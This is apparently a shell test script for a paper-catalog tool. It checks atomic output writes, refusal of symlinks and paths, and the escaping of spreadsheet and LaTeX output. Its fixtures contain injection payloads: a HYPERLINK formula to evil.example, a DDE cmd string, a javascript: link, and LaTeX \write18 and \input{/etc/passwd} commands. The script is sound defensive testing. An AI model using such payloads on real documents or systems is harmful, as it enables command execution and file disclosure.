# robust_nothing_lost.sh - a failed or interrupted run keeps the earlier output byte-for-byte
# and leaves no temporary; reports stay in their folder; spreadsheets keep formula-like text
# as text; LaTeX titles cannot run commands; keys cannot name paths; import -m keeps fields.
. "$(dirname "$0")/../lib.sh"
: "${TOOLS:=$(dirname "$LIT")/tools}"
FIX="$ROOT/tests/fixtures/core"
T="--venues $FIX/venues.yaml --topics $FIX/topics.yaml"
O="$TMP/out"; mkdir -p "$O"
printf 'papers:\n  - key: a\n    title: x\n    year: 1\n' >"$TMP/bad.yaml"

# listing DIR: every entry, hidden ones too (a temporary is ".NAME.XXXXXX").
listing() { ls -A "$1" | sort | tr '\n' ' '; }

# ---- a failed run leaves the old output as it was
for spec in "chart venues -o $O/c.pdf" "chart years -o $O/c.svg" "chart timeline -o $O/c.png" \
            "xlsx -o $O/s.xlsx" "latex topics -o $O/t.tex" "latex catalog --standalone -o $O/c.tex" \
            "bib -o $O/r.bib"; do
  out=${spec##* }
  printf 'precious %s\n' "$out" >"$out"
done
cp -r "$O" "$TMP/before"
for spec in "chart venues -o $O/c.pdf" "chart years -o $O/c.svg" "chart timeline -o $O/c.png" \
            "xlsx -o $O/s.xlsx" "latex topics -o $O/t.tex" "latex catalog --standalone -o $O/c.tex" \
            "bib -o $O/r.bib"; do
  # shellcheck disable=SC2086
  check_exit "failed '${spec%% -o*}' exits 1" 1 "$LIT" $spec -c "$TMP/bad.yaml" $T
done
check "failed runs left every output byte-for-byte" diff -r "$TMP/before" "$O"
check "failed runs left no temporaries" test "$(listing "$O")" = "$(listing "$TMP/before")"

# A style error found after the catalog loaded: still nothing written.
check_exit "chart with a bad style exits 1" 1 "$LIT" chart venues -c "$FIX/catalog.yaml" $T \
  --style "$ROOT/tests/bad-input/style/bad-color.yaml" -o "$O/c.pdf"
check "the chart is untouched" cmp "$TMP/before/c.pdf" "$O/c.pdf"

# import -o: one bad file among good ones writes nothing.
printf '%s\n' "# Pipeline" "" "- PipeDream: Generalized Pipeline Parallelism for DNN Training (SOSP'19)" >"$TMP/good.md"
printf 'precious catalog\n' >"$O/cat.yaml"; cp "$O/cat.yaml" "$TMP/cat.before"
check_exit "import --strict with a bad BibTeX file exits 1" 1 "$LIT" import -q --strict "$TMP/good.md" "$ROOT/tests/bad-input/bib/truncated.bib" -o "$O/cat.yaml" $T
check "import -o left the catalog as it was" cmp "$TMP/cat.before" "$O/cat.yaml"
check "import left no temporaries" sh -c "! ls -A '$O' | grep -q '^\.'"

# -o through a link: the link stays, the file it names is replaced whole (a temporary
# beside that file), and a failed run leaves it as it was.
mkdir -p "$TMP/elsewhere"; printf 'keep me\n' >"$TMP/elsewhere/target"
ln -s "$TMP/elsewhere/target" "$O/link.bib"
check_exit "bib -o a link with a bad catalog fails" 1 "$LIT" bib -q -c "$TMP/bad.yaml" $T -o "$O/link.bib"
check "the link's target is untouched by the failure" sh -c "test \"\$(cat '$TMP/elsewhere/target')\" = 'keep me'"
check "bib -o a link succeeds" "$LIT" bib -q -c "$FIX/catalog.yaml" $T -o "$O/link.bib"
check "the link is still a link, to a complete file" sh -c "test -L '$O/link.bib' && grep -q '^@' '$TMP/elsewhere/target'"
check "no temporary beside the link or its target" sh -c "! ls -A '$TMP/elsewhere' '$O' | grep -q '^\.'"

# ---- interrupted runs (SIGINT while the output is being written), on a big catalog
G=$TOOLS/gen_catalog
[ -x "$G" ] || G=$(dirname "$(dirname "$LIT")")/rel/tools/gen_catalog
BIG="$TMP/big/catalog.yaml"; mkdir -p "$TMP/big"
"$G" -o "$BIG" --venues "$FIX/venues.yaml" --topics "$FIX/topics.yaml" 100000 >/dev/null 2>&1 || "$G" -o "$BIG" 100000 >/dev/null 2>&1
# interrupt NAME FILE CMD...: starts CMD, waits for its temporary beside FILE, sends SIGINT.
interrupt() {
  name=$1; file=$2; shift 2
  dir=$(dirname "$file"); base=$(basename "$file")
  printf 'precious %s\n' "$base" >"$file"; cp "$file" "$TMP/int.before"
  "$@" >/dev/null 2>"$TMP/int.err" &
  pid=$!; seen=0; i=0
  while [ $i -lt 3000 ] && kill -0 $pid 2>/dev/null; do
    if ls -A "$dir" | grep -q "^\.$base\.\|^\.[^.].*\.new-"; then seen=1; break; fi
    sleep 0.01; i=$((i + 1))
  done
  if [ $seen = 1 ]; then sleep 0.05; kill -INT $pid 2>/dev/null; fi
  wait $pid; rc=$?
  if [ $seen = 0 ]; then ok "$name # SKIP finished before its temporary was seen (exit $rc)"; return; fi
  if [ $rc -eq 0 ]; then ok "$name # SKIP finished before the signal arrived"; return; fi
  if [ $rc -ne 130 ] && [ $rc -ne 1 ]; then not_ok "$name: exit $rc after SIGINT"; head -5 "$TMP/int.err" | sed 's/^/#   /'; return; fi
  if grep -Eq 'Sanitizer|runtime error' "$TMP/int.err"; then not_ok "$name: sanitizer report"; head -10 "$TMP/int.err" | sed 's/^/#   /'; return; fi
  if ! cmp -s "$file" "$TMP/int.before"; then
    # The rename may land just before the signal: then the file must be the whole new output.
    cp "$file" "$TMP/int.got"; "$@" >/dev/null 2>&1
    if cmp -s "$file" "$TMP/int.got"; then ok "$name # SKIP the complete output was in place before the signal"
    else not_ok "$name: the earlier output changed into a partial one"; fi
    return
  fi
  left=$(ls -A "$dir" | grep -v "^$base\$" | grep '^\.' | tr '\n' ' ')
  if [ -n "$left" ]; then not_ok "$name: temporaries left: $left"; return; fi
  ok "$name: SIGINT kept the old output and left no temporary"
}
I="$TMP/int"; mkdir -p "$I"
interrupt "interrupted xlsx" "$I/s.xlsx" "$LIT" xlsx -q -c "$BIG" $T -o "$I/s.xlsx"
interrupt "interrupted latex catalog" "$I/c.tex" "$LIT" latex catalog -q -c "$BIG" $T -o "$I/c.tex"
interrupt "interrupted bib" "$I/r.bib" "$LIT" bib -q -c "$BIG" $T -o "$I/r.bib"
interrupt "interrupted chart" "$I/v.svg" "$LIT" chart timeline -q -c "$BIG" $T -o "$I/v.svg"
interrupt "interrupted import" "$I/imp.yaml" "$LIT" import -q "$ROOT/tests/fixtures/bib/real.bib" -m "$BIG" -o "$I/imp.yaml" $T
# A whole build: the old report folder stays, and no .NAME.new-* folder is left.
RB="$TMP/rb"; mkdir -p "$RB/reports/demo" "$RB/data"
cp "$BIG" "$RB/data/catalog.yaml"; cp "$FIX/venues.yaml" "$FIX/topics.yaml" "$RB/data/"
printf 'catalog: ../data/catalog.yaml\ncharts: [venues, years, timeline]\nformats: [pdf, svg, png]\nspreadsheet: s.xlsx\ntables: [catalog]\nbib: r.bib\n' >"$RB/reports/demo.yaml"
echo old >"$RB/reports/demo/old.txt"
"$LIT" build -q "$RB/reports/demo.yaml" >/dev/null 2>"$TMP/int.err" &
pid=$!; i=0
while [ $i -lt 3000 ] && kill -0 $pid 2>/dev/null && ! ls -A "$RB/reports" | grep -q '^\.demo\.new-'; do sleep 0.01; i=$((i + 1)); done
sleep 0.3; kill -INT $pid 2>/dev/null; wait $pid; rc=$?
if [ $rc -eq 0 ]; then ok "interrupted build # SKIP finished before the signal"
else
  check "interrupted build (exit $rc) kept the old folder" test "$(ls -A "$RB/reports/demo")" = old.txt
  check "interrupted build left no build folder" test "$(ls -A "$RB/reports" | tr '\n' ' ')" = "demo demo.yaml "
fi

# ---- a report's outputs stay in its folder
W="$TMP/w"; mkdir -p "$W/data" "$W/reports/esc" "$TMP/victim"
cp "$FIX"/*.yaml "$W/data/"
printf 'keep\n' >"$TMP/victim/refs.bib"
ln -s "$TMP/victim/refs.bib" "$W/reports/esc/refs.bib"   # a link planted in the old output folder
ln -s "$TMP/victim" "$W/reports/esc/sub"
printf 'catalog: ../data/catalog.yaml\nbib: refs.bib\ntables: [topics]\n' >"$W/reports/esc.yaml"
# a link where an output goes is no earlier build's output: refused, as a user's file would be
check_err "a link planted where an output goes is refused at the spec's line" 1 "esc.yaml:2:6: error: .*esc/refs.bib' is not an output of an earlier build" "$LIT" build -q "$W/reports/esc.yaml"
check "nothing was written through the planted link" sh -c "test \"\$(cat '$TMP/victim/refs.bib')\" = keep && test \"\$(ls '$TMP/victim')\" = refs.bib"
rm "$W/reports/esc/refs.bib"
check "build over a folder holding a link to a folder succeeds" "$LIT" build -q "$W/reports/esc.yaml"
check "refs.bib is a fresh file in the folder, the link is kept as a link" sh -c "test -f '$W/reports/esc/refs.bib' && ! test -L '$W/reports/esc/refs.bib' && test -L '$W/reports/esc/sub'"
check "nothing was written through the kept link" sh -c "test \"\$(ls '$TMP/victim')\" = refs.bib"
# A spec reached through a link builds beside the link, not beside its target.
mkdir -p "$TMP/specs"; printf "catalog: $W/data/catalog.yaml\nbib: refs.bib\n" >"$TMP/specs/real.yaml"
ln -s "$TMP/specs/real.yaml" "$W/reports/viaLink.yaml"
check "build through a linked spec" "$LIT" build -q "$W/reports/viaLink.yaml"
check "its output is beside the link" test -f "$W/reports/viaLink/refs.bib"
check "nothing beside the link's target" test "$(ls -A "$TMP/specs")" = real.yaml
for n in '../x.bib' '/tmp/x.bib' 'a/../../x.bib' '..' '.bib' 'x.bib/' '~/x.bib' 'C:\\x.bib' "$(printf 'a\\tb/../c.bib')"; do
  printf 'catalog: ../data/catalog.yaml\nbib: "%s"\n' "$n" >"$W/reports/bad.yaml"
  check_err "spec 'bib: $n' is refused at its place" 1 "bad.yaml:2:6: error: " "$LIT" build -q "$W/reports/bad.yaml"
done
check "no refused spec wrote anything" sh -c "! test -e '$W/reports/bad' && ! test -e '$W/x.bib' && ! test -e /tmp/x.bib"

# ---- spreadsheets keep formula-like text as text
cat >"$TMP/inj.yaml" <<'EOF'
papers:
  - key: inj-a
    title: "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
    short: "=1+1"
    authors: ["@SUM(A1:A9)", "+cmd|' /C calc'!A0"]
    venue: OSDI
    year: 2020
    topics: [scheduling]
    links: {paper: "https://example.org/p.pdf", code: "javascript:alert(1)"}
    notes: "=2*3"
  - key: inj-b
    title: "-2+3"
    short: "@x"
    venue: SOSP
    year: 2019
  - key: inj-c
    title: "\tTab =start"
    year: 2021
EOF
check "xlsx of formula-like text" "$LIT" xlsx -q -c "$TMP/inj.yaml" $T -o "$O/inj.xlsx"
check "no cell holds an injected formula" $PY - "$O/inj.xlsx" <<'EOF'
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
bad, texts = [], set()
for ws in wb.worksheets:
    for row in ws.iter_rows():
        for c in row:
            v = c.value
            if c.data_type == 'f' and any(s in str(v) for s in ('evil', '1+1', 'SUM(A1:A9)', 'cmd|', '2*3', '-2+3', '@x')):
                bad.append('%s!%s %r' % (ws.title, c.coordinate, v))
            if isinstance(v, str): texts.add(v)
for want in ('=HYPERLINK("http://evil.example/"&A1,"click")', '-2+3'):
    if not any(want in t for t in texts): bad.append('text %r not kept' % want)
for c in wb['Papers'].iter_rows():
    for x in c:
        if x.hyperlink is not None and 'javascript:' in (x.hyperlink.target or ''): bad.append('javascript link %s' % x.coordinate)
if bad: sys.exit('\n'.join(bad))
EOF

# ---- LaTeX: titles cannot run commands or unbalance the document
cat >"$TMP/tex.yaml" <<'EOF'
papers:
  - key: tex-a
    title: "\\input{/etc/passwd} and \\write18{touch pwned} }\\end{document}"
    short: "\\immediate\\write18{touch pwned2}"
    venue: OSDI
    year: 2020
    topics: [scheduling]
  - key: tex-b
    title: "{{{ unbalanced ^^5cinput{/etc/hostname} %comment #1 $x$ ~ & _ \\ \\csname relax\\endcsname"
    short: "}"
    venue: SOSP
    year: 2019
    topics: [scheduling]
  - key: tex-c
    title: "\\catcode`\\@=0 @input{/etc/passwd} \\def\\x{y} \\openout5=pwned3"
    venue: OSDI
    year: 2021
    topics: [scheduling]
EOF
L="$TMP/tex"; mkdir -p "$L"
check "latex catalog of hostile titles" "$LIT" latex catalog --standalone -q -c "$TMP/tex.yaml" $T -o "$L/c.tex"
check "latex topics of hostile titles" "$LIT" latex topics --standalone -q -c "$TMP/tex.yaml" $T -o "$L/t.tex"
for f in c t; do
  (cd "$L" && timeout 60 pdflatex -no-shell-escape -interaction=nonstopmode -halt-on-error $f.tex >/dev/null 2>&1)
  check "$f.tex compiles (no-shell-escape)" test -s "$L/$f.pdf"
  # With shell escape on, an injected \write18 would run: it must not.
  (cd "$L" && timeout 60 pdflatex -shell-escape -interaction=nonstopmode -halt-on-error -jobname=${f}se $f.tex >/dev/null 2>&1)
  check "$f.tex runs nothing even with -shell-escape" sh -c "! ls '$L' | grep -q pwned"
  check "$f.pdf shows the title as text, not the file it names" sh -c "pdftotext '$L/$f.pdf' - | grep -q 'write18' && ! pdftotext '$L/$f.pdf' - | grep -q 'root:'"
  check "$f.log reads no file it was not given" sh -c "! grep -Eq '/etc/(passwd|hostname)' '$L/$f.log'"
done

# ---- keys never name paths
printf '@article{../../etc/x,\n  title = {Path key},\n  year = 2020\n}\n@article{a/b c,\n  title = {Slash key},\n  year = 2021\n}\n' >"$TMP/keys.bib"
"$LIT" import -q "$TMP/keys.bib" -o "$O/keys.yaml" $T >/dev/null 2>"$TMP/keys.err"; rc=$?
if [ $rc -eq 0 ]; then
  check "imported path-like keys load back" "$LIT" stats -q -c "$O/keys.yaml" $T
  # a key is a citation key, kept as written (DBLP's hold slashes): nothing is named after one
  check "path-like keys are kept as citation keys, and name no file" sh -c "grep -q '^- key: ../../etc/x' '$O/keys.yaml' && [ \$(ls -A '$O' | grep -c keys) -eq 1 ]"
else
  check_err "path-like BibTeX keys are refused at their place" 1 "keys.bib:[0-9]+:[0-9]+: error: " "$LIT" import -q "$TMP/keys.bib" -o "$O/keys.yaml" $T
fi
# (No output file name is derived from a key today: charts, tables and sheets have fixed names.)

# ---- whatever import writes, the catalog loader reads back (years out of the catalog's 1800-2100)
printf '@article{old1543,\n  title = {De revolutionibus orbium coelestium},\n  year = 1543\n}\n@article{future,\n  title = {Far future systems},\n  year = 2500\n}\n' >"$TMP/years.bib"
printf '%s\n' "# Old" "" "- Old Arxiv Systems Paper [[Paper]](https://arxiv.org/abs/9912.00001)" >"$TMP/years.md"
for f in years.bib years.md; do
  "$LIT" import -q "$TMP/$f" -o "$O/$f.yaml" $T >/dev/null 2>&1; rc=$?
  if [ $rc -eq 0 ]; then check "import of $f writes a catalog that loads" "$LIT" stats -q -c "$O/$f.yaml" $T
  else check_err "import of $f refuses at a place" 1 "$f:[0-9]+:[0-9]+: error: " "$LIT" import -q "$TMP/$f" -o "$O/$f.yaml" $T; fi
done
check "an arXiv id of the 1990s is not a year of the 2090s" sh -c "! grep -q 'year: 209' '$O/years.md.yaml' 2>/dev/null"

# ---- import -m keeps every field it does not understand
cat >"$TMP/mine.yaml" <<'EOF'
papers:
  - key: pipedream-sosp19
    title: "PipeDream: Generalized Pipeline Parallelism for DNN Training"
    short: PipeDream
    venue: SOSP
    year: 2019
    topics: [pipeline-parallelism]
    status: read
    presenter: "Ann"
    notes: {summary: "keeps weights in flight", score: 4, tags: [a, "b c"], nested: {deep: [1, {x: y}]}}
    reading_date: 2024-03-01
    quoted_number: "007"
    empty_thing: ~
  - key: mine-only
    title: A paper only in my catalog
    my_field: [1, 2, 3]
EOF
check "import -m succeeds" "$LIT" import -q "$TMP/good.md" -m "$TMP/mine.yaml" -o "$O/merged.yaml" $T
check "import -m kept every field and value it does not know" $PY - "$TMP/mine.yaml" "$O/merged.yaml" <<'EOF'
import sys, yaml
known = {'key', 'title', 'short', 'authors', 'venue', 'year', 'year_inferred', 'topics', 'links', 'sources', 'doi', 'arxiv'}
old = {p['key']: p for p in yaml.safe_load(open(sys.argv[1]))['papers']}
new = {p['key']: p for p in yaml.safe_load(open(sys.argv[2]))['papers']}
bad = []
for k, p in old.items():
    if k not in new: bad.append('paper %s dropped' % k); continue
    for f, v in p.items():
        if f in known: continue
        if f not in new[k]: bad.append('%s: field %s dropped' % (k, f))
        elif new[k][f] != v: bad.append('%s: field %s changed %r -> %r' % (k, f, v, new[k][f]))
if bad: sys.exit('\n'.join(bad))
EOF
exit $failed
